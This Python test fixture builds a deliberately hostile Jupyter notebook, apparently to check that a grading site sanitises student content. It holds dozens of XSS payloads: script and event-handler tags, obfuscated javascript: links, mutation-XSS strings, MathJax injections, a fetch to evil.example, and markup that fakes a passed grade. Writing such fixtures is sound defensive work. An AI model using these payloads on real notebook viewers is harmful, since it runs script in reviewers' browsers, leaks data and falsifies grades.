"""A notebook that attacks who looks at it: what it shows should run, load, or pass for what is not the student's."""

from copy import deepcopy
from typing import Any

import nbformat
from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_raw_cell

RUN = "window.ran=1;alert(1);fetch(`http://evil.example/x`)"
TAGS = f'<script>{RUN}</script><img src="x" onerror="{RUN}"><svg onload="{RUN}"></svg>'
SVG = f"<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'><image href='http://evil.example/s.png'/></svg>"
SVG_BASE64 = "PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0icGFyZW50LnJhbj0xIj48L3N2Zz4="
PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="  # 1×1, a PNG
FIELD = '<span id="permutation_why" class="score tabbable">spoof</span>'
SPOOF = f'{FIELD}<div class="wic-card wic-passed">spoof</div>'

MARKDOWN = (
    "![a drawing](attachment:drawing.png) ![a script](attachment:script.svg) ![none](attachment:none.png)",
    TAGS,
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe><iframe src="javascript:{RUN}"></iframe>',
    '<object data="http://evil.example/o"></object><embed src="http://evil.example/e"><base href="http://evil.example">',
    '<meta http-equiv="refresh" content="0;url=//evil.example/"><link rel="stylesheet" href="//evil.example/c.css">',
    "<style>@import 'http://evil.example/s.css'; body {background: url(http://evil.example/b.png)}</style>",
    f'<form><button formaction="javascript:{RUN}">click</button><input autofocus onfocus="{RUN}"></form>',
    f'<details open ontoggle="{RUN}"><summary>click</summary></details>',
    f"[click](javascript:{RUN}) [click](JaVaScRiPt:{RUN}) [click](&#106;avascript:{RUN}) [click](data:text/html,x)",
    f'<a href="java&#9;script:{RUN}">click</a> <a href=" &#1;javascript:{RUN}">click</a> <a href="vbscript:x">c</a>',
    f'<a href="files/javascript:{RUN}">click</a> [click](/files/javascript:{RUN})',  # nbconvert drops "files/"
    f"[a][1] <javascript:{RUN}>\n\n[1]: javascript:{RUN}",
    "![x](http://evil.example/i.png) <img src='//evil.example/j.png'> <img srcset='http://evil.example/k.png 1x'>",
    f"![x](data:image/svg+xml;base64,{SVG_BASE64}) <img src='files/data:image/svg+xml;base64,{SVG_BASE64}'>",
    "<table><tr><td style='text-align:center;background-image:url(//evil.example/u.png)'>x</td></tr></table>",
    f"<noscript><p title=\"</noscript><img src=x onerror='{RUN}'>\"></noscript>",
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
    f"<svg></p><style><a id=\"</style><img src=1 onerror='{RUN}'>\"></svg>",
    f"<template>{TAGS}</template><xmp><img title='</xmp><img src=x onerror={RUN}>'></xmp>",
    f"<div title='</div><img src=x onerror={RUN}>' onclick='{RUN}'>click</div><!--><img src=x onerror='{RUN}'>-->",
    f'```" onmouseover="{RUN}\nx\n```\n\n~~~"><img src=x onerror=\'{RUN}\'>\nx\n~~~',
    f"$\\href{{javascript:{RUN}}}{{click}}$ $\\require{{html}}\\href{{javascript:{RUN}}}{{click}}$",
    f'$\\mmlToken{{mi}}[href="javascript:{RUN}"]{{click}}$ $\\let\\a\\mmlToken \\a{{mi}}[href="javascript:1"]{{x}}$',
    '$\\mmlToken{mi}[style="background:url(http://evil.example/m.png)"]{x}$ $\\mmlToken{mi}[id="permutation_why"]{x}$',
    "$\\style{background:url(http://evil.example/m.png)}{x}$ $\\class{score}{x}$ $\\cssId{permutation_why}{x}$",
    f"$\\text{{<img src=x onerror='{RUN}'>}}$ $<img src=x onerror='{RUN}'>$ $\\def\\x{{\\x\\x}}\\x$",
    "$\\includegraphics{http://evil.example/g.png}$ $\\require{http://evil.example/r}$",
    SPOOF,
    "# permutation_why\n\n<a id='MathJax'></a><form id='base_url'></form>",
    "> " * 3_000 + "deep",
    "<div>" * 20_000,
    "[" * 15_000,
    "a formula that is none of this: $a^2$",
)
CODE = (
    f"from IPython.display import *\nimport sys\ndisplay(HTML('''{TAGS}'''), Javascript('''{RUN}'''))",
    f'display(SVG("""{SVG}"""))',
    f"display({{'image/png': '''AAAA\" onerror=\"{RUN}''', 'text/plain': '''</pre>{TAGS}'''}}, raw=True)",
    "display({'image/png': 'AAAA'}, raw=True, metadata={'image/png': {'width': '1 onerror=window.ran=1'}})",
    f"print('''</pre></script>{TAGS}'''); print('''</pre>{TAGS}''', file=sys.stderr); print('y' * 150_000)",
    f"print('''\\x1b[31m{TAGS}\\x1b[38;2;1;2;3m\"><img src=x onerror='{RUN}'>\\x1b[38;5;999mx''')",
    f"class X(Exception): pass\nX.__name__ = '''<img src=x onerror='{RUN}'>'''\nraise X('''</pre>{TAGS}''')",
    f"{TAGS}\n%%html\n{TAGS}",
    f"%%javascript\n{RUN}",
)
RAW = (f"{TAGS}<a href='javascript:{RUN}'>click</a>{SPOOF}",)
METADATA = {
    "tags": [f'">{TAGS}', f"x' onclick='{RUN}"],
    "name": TAGS,
    "raw_mimetype": "text/html",
    "alt": f'">{TAGS}',
    "magics_language": f'">{TAGS}',
}


def _display(data: dict[str, Any], metadata: dict[str, Any] | None = None) -> dict[str, Any]:
    return {"output_type": "display_data", "data": data, "metadata": metadata or {}}


OUTPUTS = (
    _display({"text/html": TAGS + FIELD + f"<a href='files/javascript:{RUN}'>click</a>"}),
    _display({"text/html": TAGS}, {"text/html": {"isolated": True}}),
    _display({"image/svg+xml": SVG}),
    {**_display({"image/svg+xml": SVG}), "svg_filename": f'x" onerror="{RUN}'},
    _display({"application/javascript": RUN}),
    _display({"text/markdown": f"[click](javascript:{RUN}) ![x](http://evil.example/q.png){TAGS}"}),
    _display({"text/latex": f'$\\mmlToken{{mi}}[href="javascript:{RUN}"]{{x}}${TAGS}'}),
    _display({"application/vnd.jupyter.widget-view+json": {"no model": f"</script>{TAGS}"}}),
    _display({"image/png": PIXEL}, {"image/png": {"width": f"1 onerror={RUN}", "height": f"1 onload={RUN}"}}),
    _display({"image/png": PIXEL}, {"filenames": {"image/png": f"x onerror={RUN}"}, "alt": f'" onload="{RUN}'}),
    _display({"image/jpeg": f'AAAA" onerror="{RUN}'}),
    {"output_type": "stream", "name": "stdout", "text": f"</pre>{TAGS}"},
    {"output_type": "error", "ename": TAGS, "evalue": TAGS, "traceback": [f"\x1b[31m</pre>{TAGS}"]},
)
"""What no notebook that was graded here holds; but a course may have others, and pages must not depend on it."""


def hostile_notebook(release: NotebookNode) -> NotebookNode:
    """A released notebook with all of this in it, where a student may write and where none may."""
    notebook = deepcopy(release)
    makers = [(new_markdown_cell, MARKDOWN), (new_code_cell, CODE), (new_raw_cell, RAW)]
    cells = [make(text) for make, texts in makers for text in texts]
    for cell in cells:
        cell.metadata = nbformat.from_dict(METADATA)
        if cell.cell_type == "markdown":
            images = {"drawing.png": {"image/png": PIXEL}, "script.svg": {"image/svg+xml": SVG_BASE64}}
            cell.attachments = nbformat.from_dict(images)
    notebook.cells = cells + notebook.cells
    answer = next(c for c in notebook.cells if c.metadata.get("nbgrader", {}).get("grade_id") == "permutation_why")
    answer.source = "\n\n".join([MARKDOWN[10], SPOOF])
    about = {"kernelspec": {"name": TAGS, "display_name": TAGS, "language": TAGS}, "title": TAGS}
    about["language_info"] = {"name": TAGS, "pygments_lexer": TAGS, "codemirror_mode": TAGS}
    about["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": {"x": f"</script>{TAGS}"}}}
    notebook.metadata = nbformat.from_dict(about)
    return notebook


def with_hostile_outputs(graded: NotebookNode) -> NotebookNode:
    """A graded notebook as if nothing had been dropped on the way."""
    notebook = deepcopy(graded)
    cell = next(cell for cell in notebook.cells if cell.cell_type == "code")
    cell.outputs = [nbformat.from_dict(output) for output in OUTPUTS]
    cell.metadata.update(METADATA)
    return notebook
